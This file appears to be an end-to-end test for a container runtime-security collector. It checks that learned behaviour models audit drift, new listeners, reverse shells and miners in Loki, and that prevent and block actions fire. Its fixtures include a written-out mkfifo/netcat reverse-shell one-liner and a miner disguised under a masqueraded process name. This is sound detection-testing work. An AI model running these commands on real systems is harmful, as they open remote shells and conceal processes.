/**
 * Runtime models and audits end to end, on real parts: the collector's CLI
 * (eBPF + the Podman Engine API), real containers of the busybox image, real
 * Loki. The image learns `sleep` and a listener on 8080 during a 5 s learning
 * period; then each attack must reach Loki as the right audit, prevent must
 * kill the offending process within a second, block must stop the container,
 * and normal behaviour after learning must yield no audit at all.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { nowNs, nsToMs, type CasefileEvent } from '@casefile/schema';
import { LokiClient } from '../../server/src/loki/loki-client';
import { startLoki, type Loki } from '../loki/loki-server';
import { podmanUnavailableReason, setupPodman, type Podman } from '../containers/podman';
import { spawnCollector, until, type CollectorProcess } from '../../collector/test/helpers';

const skip =
  process.getuid?.() !== 0
    ? 'needs root (eBPF and Podman)'
    : !existsSync('/usr/bin/bpftrace')
      ? 'bpftrace is not installed'
      : (podmanUnavailableReason() ?? undefined);

const POLICY = `
scopes:
  - match: { containerName: "rt-prevent" }
    actions: { crypto_miner: prevent }
  - match: { containerName: "rt-block" }
    actions: { reverse_shell: block }
`;
const LOOP = ['/bin/sh', '-c', 'while true; do /bin/sleep 1; done'];
const REVERSE_SHELL = [
  '/bin/sh',
  '-c',
  '/bin/mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /bin/nc 127.0.0.1 9001 > /tmp/f; true',
];

/** Progress on stderr, so a slow step shows where the time went. */
const step = (what: string) => console.error(`# ${new Date().toISOString()} ${what}`);

test(
  'runtime models learn an image, then drift, a new listener, a reverse shell and a miner are audited in Loki; prevent and block act',
  { skip, timeout: 300_000 },
  async () => {
    let loki: Loki | undefined;
    let pm: Podman | undefined;
    let col: CollectorProcess | undefined;
    const dir = mkdtempSync(join(tmpdir(), 'casefile-runtime-'));
    const host = `runtime-${process.pid}`;
    let seen: CasefileEvent[] = [];
    try {
      [loki, pm] = await Promise.all([startLoki(), setupPodman()]);
      step('loki and podman up');
      const socket = await pm.startService();
      writeFileSync(join(dir, 'policy.yaml'), POLICY);
      col = spawnCollector([
        '--otlp-endpoint',
        `${loki.url}/otlp`,
        '--state-dir',
        join(dir, 'state'),
        '--runtime-socket',
        socket,
        '--sources',
        'ebpf,runtime',
        '--host-name',
        host,
        '--listen',
        '127.0.0.1:0',
        '--learning-period',
        '5s',
        '--policy',
        join(dir, 'policy.yaml'),
      ]);
      const addr = await until('collector serving', () => col!.address, 60_000);
      await until(
        'eBPF and runtime sources active',
        async () => {
          const h = (await (await fetch(`http://${addr}/healthz`)).json()) as {
            sources?: Record<string, string>;
          };
          return h.sources?.ebpf === 'active' && h.sources?.runtime === 'active';
        },
        60_000
      );

      step('collector active');
      const client = new LokiClient({ url: loki.url });
      const t0 = nowNs();
      const read = async () =>
        (seen = await client.readAll(
          { scope: { host } },
          {
            fromNs: (BigInt(t0) - 5_000_000_000n).toString(),
            toNs: (BigInt(nowNs()) + 60_000_000_000n).toString(),
          }
        ));
      const audits = (evs: CasefileEvent[], cid: string) =>
        evs.filter((e) => e.type === 'runtime.audit' && e.containerId === cid);

      // --- learning: sleep in a loop and a listener on 8080 ---------------------
      const main = await pm.run(['/bin/sh', '-c', '/bin/nc -l -p 8080 & while true; do /bin/sleep 1; done'], {
        name: 'rt-main',
      });
      const learned = await until(
        'the image model learned sleep and 8080, then became active',
        async () => {
          const evs = await read();
          const l = evs.filter((e) => e.type === 'model.learned' && e.containerId === main);
          const digest = l[0]?.modelId;
          const active = evs.some(
            (e) => e.type === 'model.state' && e.modelId === digest && e.modelState === 'active'
          );
          return active &&
            l.some((e) => e.behavior === '/bin/sleep') &&
            l.some((e) => e.behavior === 'tcp/8080')
            ? l
            : undefined;
        },
        60_000
      );
      step('model active');
      assert.match(learned[0].modelId!, /^sha256:[0-9a-f]{64}$/, 'the model is keyed by image digest');
      assert.ok(
        learned.every((e) => BigInt(e.timeNs) >= BigInt(t0)),
        'each behaviour carries the time it was learned'
      );
      // Normal behaviour continues for a few loop turns after learning.
      await new Promise((r) => setTimeout(r, 3000));
      const attacksFrom = nowNs();

      step('attacks');
      // --- attacks on rt-main ------------------------------------------------------
      await pm.exec(main, ['/bin/sh', '-c', '/bin/cp /bin/busybox /tmp/sleep && /tmp/sleep 1']);
      await pm.exec(main, ['/bin/sh', '-c', '/bin/nc -l -p 9999 & p=$!; /bin/sleep 1; kill $p']);
      await pm.exec(main, REVERSE_SHELL);
      await pm.exec(main, [
        '/bin/sh',
        '-c',
        '/bin/ln -sf /bin/busybox /tmp/xmrig; exec -a sleep /tmp/xmrig 0',
      ]);

      step('prevent');
      // --- prevent: a miner in rt-prevent is killed ------------------------------
      const prevent = await pm.run(LOOP, { name: 'rt-prevent' });
      await until(
        'rt-prevent known to the collector',
        async () => (await read()).some((e) => e.type === 'container.start' && e.containerId === prevent),
        30_000
      );
      const minerStarted = Date.now();
      const minerRun = await pm
        .exec(prevent, ['/bin/sh', '-c', '/bin/ln -sf /bin/busybox /tmp/xmrig; exec -a sleep /tmp/xmrig 30'])
        .then(
          () => 'exited normally',
          (err: Error) => err.message
        );
      const minerRanMs = Date.now() - minerStarted;

      step(`block (miner ran ${minerRanMs} ms)`);
      // --- block: a reverse shell in rt-block stops the container -----------------
      const block = await pm.run(LOOP, { name: 'rt-block' });
      await until(
        'rt-block known to the collector',
        async () => (await read()).some((e) => e.type === 'container.start' && e.containerId === block),
        30_000
      );
      await pm.exec(block, REVERSE_SHELL).catch(() => undefined);
      await until(
        'rt-block stopped by the collector',
        async () => (await pm!.podman(['inspect', '-f', '{{.State.Status}}', block])).trim() === 'exited',
        30_000
      );

      step('reading Loki');
      // --- what Loki holds ----------------------------------------------------------
      const want =
        (
          cid: string,
          attackType: string,
          ruleId: string,
          extra: (e: CasefileEvent) => boolean = () => true
        ) =>
        (evs: CasefileEvent[]) =>
          audits(evs, cid).find((e) => e.attackType === attackType && e.ruleId === ruleId && extra(e));
      const checks = {
        drift: want(main, 'drift', 'R1001', (e) => e.executable === '/tmp/sleep'),
        port: want(main, 'unexpected_port', 'CF001', (e) => e.listenPort === 9999),
        reverseShell: want(main, 'reverse_shell', 'CF101'),
        miner: want(main, 'crypto_miner', 'R1007', (e) => e.executable === '/tmp/xmrig'),
        preventAudit: want(prevent, 'crypto_miner', 'R1007', (e) => e.action === 'prevent'),
        blockAudit: want(block, 'reverse_shell', 'CF101', (e) => e.action === 'block'),
      };
      const evs = await until(
        'every audit and action in Loki',
        async () => {
          const all = await read();
          const missing = Object.entries(checks)
            .filter(([, f]) => !f(all))
            .map(([k]) => k);
          const actions = all.filter((e) => e.type === 'runtime.action');
          return missing.length === 0 &&
            actions.some((a) => a.action === 'prevent') &&
            actions.some((a) => a.action === 'block')
            ? all
            : undefined;
        },
        60_000
      );

      for (const [name, f] of Object.entries(checks)) {
        const a = f(evs)!;
        assert.ok(
          a.severity && a.message && a.mitreTechnique,
          `${name}: severity, message and MITRE technique`
        );
        assert.equal(a.imageName, 'localhost/casefile-test/busybox:1', `${name}: scoped to the image`);
      }
      assert.equal(checks.drift(evs)!.mitreTechnique, 'T1105');
      assert.equal(checks.miner(evs)!.severity, 'critical');

      // Normal behaviour after learning: no audit at all for rt-main before the attacks.
      const early = audits(evs, main).filter((e) => BigInt(e.timeNs) < BigInt(attacksFrom));
      assert.deepEqual(
        early.map((e) => e.message),
        [],
        'no audit before the attacks'
      );
      // rt-prevent ran only its (learned) loop apart from the miner command: audits for that command only.
      // The `podman exec` shell that runs it is part of that command: whether it is audited depends on
      // whether its parent is resolved before runc exits, so it may or may not appear; nothing else may.
      const preventExes = new Set(audits(evs, prevent).map((e) => e.executable));
      assert.ok(
        preventExes.has('/bin/ln') && preventExes.has('/tmp/xmrig'),
        `ln and the miner audited: ${[...preventExes]}`
      );
      assert.deepEqual(
        [...preventExes].filter((x) => !['/bin/ln', '/bin/sh', '/tmp/xmrig'].includes(x!)),
        [],
        'the miner command (sh, ln, then the miner) only'
      );

      // Prevent: the miner's process was killed within a second of its exec.
      const preventAudit = checks.preventAudit(evs)!;
      const killed = evs.find((e) => e.type === 'runtime.action' && e.auditId === preventAudit.id)!;
      assert.equal(killed.action, 'prevent');
      assert.match(killed.reason ?? '', /^killed pid \d+$/);
      const minerExec = evs.find(
        (e) => e.type === 'process.start' && e.containerId === prevent && e.executable === '/tmp/xmrig'
      )!;
      assert.ok(
        nsToMs(killed.timeNs) - nsToMs(minerExec.timeNs) < 1000,
        `killed ${nsToMs(killed.timeNs) - nsToMs(minerExec.timeNs)} ms after its exec`
      );
      assert.ok(
        minerRanMs < 15_000 && minerRun !== 'exited normally',
        `the 30 s miner was cut short (${minerRanMs} ms: ${minerRun.slice(-200)})`
      );
      assert.equal(existsSync(`/proc/${minerExec.pid}`), false, 'the miner process is gone');

      // Block: an action event, and the container stop the runtime reported.
      const blockAudit = checks.blockAudit(evs)!;
      const stopped = evs.find((e) => e.type === 'runtime.action' && e.auditId === blockAudit.id)!;
      assert.equal(stopped.action, 'block');
      await until(
        'rt-block stop in Loki',
        async () => (await read()).some((e) => e.type === 'container.stop' && e.containerId === block),
        30_000
      );
    } catch (err) {
      const summary = seen
        .filter((e) => e.type.startsWith('runtime') || e.type.startsWith('model') || e.containerId)
        .map(
          (e) =>
            `${e.type} ${e.containerName ?? ''} ${e.ruleId ?? ''} ${e.attackType ?? ''} ${e.action ?? ''} ${e.executable ?? ''} ${e.behavior ?? ''} ${e.message.slice(0, 120)}`
        );
      (err as Error).message +=
        `\n--- ${seen.length} events; runtime/model/container ones:\n${summary.slice(-150).join('\n')}\n--- collector stderr (tail) ---\n${col?.stderr().slice(-3000)}`;
      throw err;
    } finally {
      if (col && col.child.exitCode === null) {
        col.child.kill('SIGTERM');
        await Promise.race([col.exited, new Promise((r) => setTimeout(r, 15_000))]);
        if (col.child.exitCode === null) col.child.kill('SIGKILL');
      }
      await pm?.cleanup();
      await loki?.stop();
      rmSync(dir, { recursive: true, force: true });
    }
  }
);
